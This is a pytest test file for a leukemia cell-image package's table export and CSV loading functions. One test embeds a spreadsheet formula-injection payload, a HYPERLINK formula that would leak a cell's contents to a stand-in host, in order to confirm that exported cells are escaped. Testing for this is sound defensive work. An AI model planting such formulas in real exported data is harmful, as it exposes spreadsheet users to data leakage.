import csv
import os
import sys

import numpy as np
import pandas as pd
import pytest

from leukfeat import FeatureSet
from leukfeat.data import CellDataset, apply_corrections, export_table, load_csv


@pytest.fixture
def cells(tmp_path):
    paths = [tmp_path / "img" / f"{name}.png" for name in ("a", "b", "c")]
    paths[0].parent.mkdir()
    for path in paths:
        path.touch()
    return CellDataset.from_arrays(
        paths,
        ["hem", None, "all"],
        ["H1", "007", "-3"],
        class_names=["hem", "all"],
        positive="all",
        fold=["fold_0", None, "fold_1"],
        um_per_px=[0.1, np.nan, 0.25],
    )


def rows(path):
    with path.open(newline="", encoding="utf-8") as lines:
        return list(csv.reader(lines))


def test_one_row_a_cell_with_all_that_is_known(cells, tmp_path):
    table = export_table(
        cells,
        probabilities=[[0.75, 0.25], [0.5, 0.5], [0, 1]],
        predictions=[0, -1, 1],
        boxes=[[0, 1, 10, 12]] * 3,
        digests=["d0", "d1", "d2"],
        relative_to=tmp_path,
    )
    assert list(table.columns) == [
        *["image", "x", "y", "width", "height", "label", "subject", "fold", "um_per_px"],
        *["predicted", "probability_hem", "probability_all", "digest"],
    ]
    first = table.iloc[0].to_dict()
    assert first["image"] == "img/a.png"
    assert (first["label"], first["predicted"], first["probability_all"]) == ("hem", "hem", 0.25)
    assert (first["x"], first["height"], first["digest"]) == (0, 12, "d0")
    assert table["label"].isna().tolist() == [False, True, False]
    assert table["predicted"].isna().tolist() == [False, True, False]


def test_a_csv_file_can_be_loaded_again(cells, tmp_path):
    path = tmp_path / "cells.csv"
    export_table(cells, path, relative_to=tmp_path)
    again = load_csv(path, class_names=cells.class_names, positive="all")
    assert again.images == cells.images
    assert again.y.tolist() == cells.y.tolist() == [0, -1, 1]
    assert again.subjects.tolist() == cells.subjects.tolist()
    assert again.column("fold").tolist() == ["fold_0", None, "fold_1"]
    np.testing.assert_array_equal(again.column("um_per_px"), cells.column("um_per_px"))


def test_a_csv_file_runs_no_formula(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    bad = '=HYPERLINK("http://example.org?"&A1,"open")'
    cells = CellDataset.from_arrays(
        [f"{bad}.png", "-2.png"], ["@x", "b"], ["+4", "4"], **{"=note": [bad, "fine"], "n": [-1, 2]}
    )
    path = tmp_path / "cells.csv"
    export_table(cells, path)
    for line in rows(path):
        assert all(text in ("-1", "") or text[0] not in "=+-@" for text in line)
    assert rows(path)[1][0] == f"'{bad}.png"
    table = pd.read_csv(path)
    assert table["n"].tolist() == [-1, 2]
    (tmp_path / "-2.png").touch()
    kept = load_csv(path, errors="skip")
    assert kept.images == [str(tmp_path / "-2.png")]
    assert kept.column("=note").tolist() == ["fine"]


def test_a_parquet_file_keeps_types(cells, tmp_path):
    pytest.importorskip("pyarrow")
    path = tmp_path / "cells.parquet"
    written = export_table(cells, path, probabilities=[0.5, 0.25, np.nan])
    table = pd.read_parquet(path)
    assert table["subject"].tolist() == ["H1", "007", "-3"]
    np.testing.assert_array_equal(table["probability_all"], written["probability_all"])
    assert table["label"].isna().tolist() == [False, True, False]


def test_without_pyarrow_the_remedy_is_named(cells, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(ImportError, match=r"leukfeat\[parquet\]"):
        export_table(cells, tmp_path / "cells.parquet")


def test_a_feature_set_brings_its_digests():
    features = FeatureSet(
        np.zeros((2, 3)),
        [0, 1],
        subjects=["H1", "1"],
        groups=["H1", "g"],
        ids=["d0", "d1"],
        class_names=["hem", "all"],
        positive="all",
        columns=pd.DataFrame({"image": ["a.png", "b.png"], "site": ["x", "y"]}),
    )
    table = export_table(features, probabilities=[0.5, 0.75])
    assert table.iloc[1].to_dict() == {
        "image": "b.png",
        "label": "all",
        "subject": "1",
        "group": "g",
        "site": "y",
        "probability_all": 0.75,
        "digest": "d1",
    }
    bare = export_table(FeatureSet(np.zeros((2, 3))))
    assert bare["image"].isna().all()
    assert len(bare) == 2


def test_arrays_are_not_written():
    pixels = [np.zeros((4, 4, 3), np.uint8)] * 2
    cells = CellDataset.from_arrays(pixels, mask=[np.zeros((4, 4)), None], site=["x", "y"])
    table = export_table(cells)
    assert list(table.columns) == ["image", "site"]
    assert table["image"].isna().all()


def test_a_file_is_replaced_whole_or_not_at_all(cells, tmp_path, monkeypatch):
    path = tmp_path / "cells.csv"
    export_table(cells, path)
    before = path.read_bytes()

    def broken(self, target, **_):
        with open(target, "w", encoding="utf-8") as lines:
            lines.write("half")
        raise OSError("the disk is full")

    monkeypatch.setattr(pd.DataFrame, "to_csv", broken)
    with pytest.raises(OSError, match="full"):
        export_table(cells, path)
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cells.csv", "img"]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ({"probabilities": [0.5, 0.5]}, r"'probabilities' must have the shape \(3,\)"),
        ({"probabilities": np.zeros((3, 5))}, r"'probabilities' must have the shape \(3, 2\)"),
        ({"probabilities": [0.5, -2.0, 1]}, "decision values are no probabilities"),
        ({"predictions": [0, 1, 2]}, "'predictions' must hold"),
        ({"boxes": np.zeros((3, 2))}, "'boxes' must have the shape"),
        ({"digests": ["a"]}, "'digests' must have the shape"),
        ({"relative_to": "/elsewhere"}, "does not lie below 'relative_to'"),
        ({"path": "cells.xlsx"}, r"must end in \.csv or \.parquet"),
    ],
)
def test_arguments_that_do_not_fit(cells, arguments, message):
    with pytest.raises(ValueError, match=message):
        export_table(cells, **arguments)


def test_further_wrong_arguments(cells, tmp_path):
    with pytest.raises(FileNotFoundError, match="no folder"):
        export_table(cells, tmp_path / "nowhere" / "cells.csv")
    with pytest.raises(TypeError, match="CellDataset or a FeatureSet"):
        export_table([1, 2])
    neutral = CellDataset.from_arrays(["a.png"], ["x"])
    with pytest.raises(ValueError, match="no positive class"):
        export_table(neutral, probabilities=[0.5])


def predicted(cells):
    return pd.DataFrame(
        {
            "image": [str(image) for image in cells.images],
            "label": ["blast", "other", "blast"],
            "p_blast": [0.75, 0.25, 1.0],
            "p_other": [0.25, 0.75, 0.0],
            "distance": [0.5, 2.0, 0.25],
            "far": [False, True, False],
            "reason": ["", "far from all training cells", "was in the training"],
        }
    )


def test_what_a_classifier_says_is_written_under_its_own_classes(cells):
    table = export_table(cells, predictions=predicted(cells))
    assert table["label"].tolist()[::2] == ["hem", "all"]
    assert table["predicted"].tolist() == ["blast", "other", "blast"]
    assert table["probability_other"].tolist() == [0.25, 0.75, 0.0]
    assert table["far"].tolist() == [False, True, False]
    assert table["reason"].iloc[2] == "was in the training"
    with pytest.raises(ValueError, match="2 rows, but there are 3 cells"):
        export_table(cells, predictions=predicted(cells)[:2])
    with pytest.raises(ValueError, match=r"Row 0 of 'predictions' is of '.*c\.png'"):
        export_table(cells, predictions=predicted(cells)[::-1].reset_index(drop=True))
    with pytest.raises(ValueError, match="leave 'probabilities' out"):
        export_table(cells, predictions=predicted(cells), probabilities=[0.5] * 3)


def test_a_table_in_another_folder_finds_its_images_again(tmp_path, monkeypatch):
    (tmp_path / "data").mkdir()
    (tmp_path / "tables").mkdir()
    (tmp_path / "data" / "a.png").touch()
    monkeypatch.chdir(tmp_path)
    cells = CellDataset.from_arrays(["data/a.png"], ["all"], class_names=["hem", "all"])
    export_table(cells, "here.csv")
    assert rows(tmp_path / "here.csv")[1][0] == "data/a.png"
    export_table(cells, "tables/there.csv")
    for table in ("here.csv", "tables/there.csv"):
        (image,) = load_csv(table).images
        assert os.path.samefile(image, "data/a.png")
        assert apply_corrections(cells, table).y.tolist() == [1]


def test_cells_that_were_found_have_the_documented_box():
    cells = CellDataset.from_arrays(
        ["a.png"], ["x"], top=[3], left=[5], bottom=[13], right=[25], area=[7.0]
    )
    table = export_table(cells)
    assert list(table.columns) == ["image", "x", "y", "width", "height", "label", "area"]
    assert table.iloc[0, 1:5].tolist() == [5, 3, 20, 10]
    assert cells.column("top").tolist() == [3]
